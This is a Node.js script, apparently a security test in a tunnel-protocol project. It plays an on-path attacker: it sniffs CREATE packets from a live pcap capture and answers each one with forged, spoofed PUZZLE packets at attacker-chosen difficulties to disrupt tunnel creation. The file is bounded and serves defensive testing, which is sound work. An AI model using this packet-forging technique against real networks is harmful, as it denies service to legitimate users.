// An on-path attacker against tunnel creation (issue 15): it reads the CREATEs a host
// sends (TID and key id travel in the clear) from a capture file that tcpdump keeps
// writing, and answers each new creation attempt with forged PUZZLEs, spoofing the
// responder's address (the namespace holds that address; bind to it).
//   node forge-puzzle.mjs PCAP CREATOR_IP RESPONDER_IP PORT SECONDS DIFFICULTIES [COPIES]
// DIFFICULTIES is a comma list (e.g. 20,24,255): one PUZZLE each per creation attempt,
// COPIES times (default 1). Bounded: SECONDS, at most 1000 datagrams. Prints "ready" once
// listening, then a JSON summary on stdout.
import dgram from "node:dgram";
import fs from "node:fs";
import { PacketType, encodePuzzle } from "../../dist/wire/packet.js";
import { PuzzleIssuer } from "../../dist/dos/puzzle.js";

const [pcap, creatorIp, responderIp, portS, secondsS, diffsS, copiesS] = process.argv.slice(2);
const port = Number(portS);
const diffs = diffsS.split(",").map(Number);
const copies = Number(copiesS ?? 1);
const sock = dgram.createSocket("udp4");
await new Promise((r) => sock.bind(port, responderIp, r));
console.log("ready");

let off = 24;
let le = true;
const seen = new Set();
let sent = 0;
const attempts = [];

/** New UDP payloads from the creator to the responder's port since the last call. */
function readNew() {
  let b;
  try {
    b = fs.readFileSync(pcap);
  } catch {
    return [];
  }
  if (b.length < 24) return [];
  le = b.readUInt32LE(0) === 0xa1b2c3d4;
  const u32 = (o) => (le ? b.readUInt32LE(o) : b.readUInt32BE(o));
  const out = [];
  while (off + 16 <= b.length) {
    const incl = u32(off + 8);
    if (off + 16 + incl > b.length) break; // record not complete yet
    const p = b.subarray(off + 16, off + 16 + incl);
    off += 16 + incl;
    if (p.length < 14 + 20 + 8 || p.readUInt16BE(12) !== 0x0800) continue;
    const ip = 14;
    if (p[ip + 9] !== 17) continue;
    const src = [...p.subarray(ip + 12, ip + 16)].join(".");
    const dst = [...p.subarray(ip + 16, ip + 20)].join(".");
    const l4 = ip + (p[ip] & 15) * 4;
    if (src !== creatorIp || dst !== responderIp || p.readUInt16BE(l4 + 2) !== port) continue;
    out.push({ sport: p.readUInt16BE(l4), payload: Buffer.from(p.subarray(l4 + 8)) });
  }
  return out;
}

const end = Date.now() + Number(secondsS) * 1000;
while (Date.now() < end && sent < 1000) {
  for (const { sport, payload } of readNew()) {
    if (payload.length < 52 || payload[8] !== PacketType.Create) continue;
    const tid = payload.latin1Slice(0, 8);
    if (seen.has(tid)) continue;
    seen.add(tid);
    const keyId = payload.readUInt32BE(16);
    attempts.push({ at: Date.now(), tid: Buffer.from(tid, "latin1").toString("hex") });
    for (let i = 0; i < copies; i++)
      for (const d of diffs) {
        const cookie = Buffer.alloc(16, i + 1);
        const p = encodePuzzle(tid, keyId, PuzzleIssuer.window(Date.now()), d, cookie);
        sock.send(p, sport, creatorIp);
        sent++;
      }
  }
  await new Promise((r) => setTimeout(r, 20));
}
console.log(JSON.stringify({ attempts: attempts.length, sent }));
sock.close();
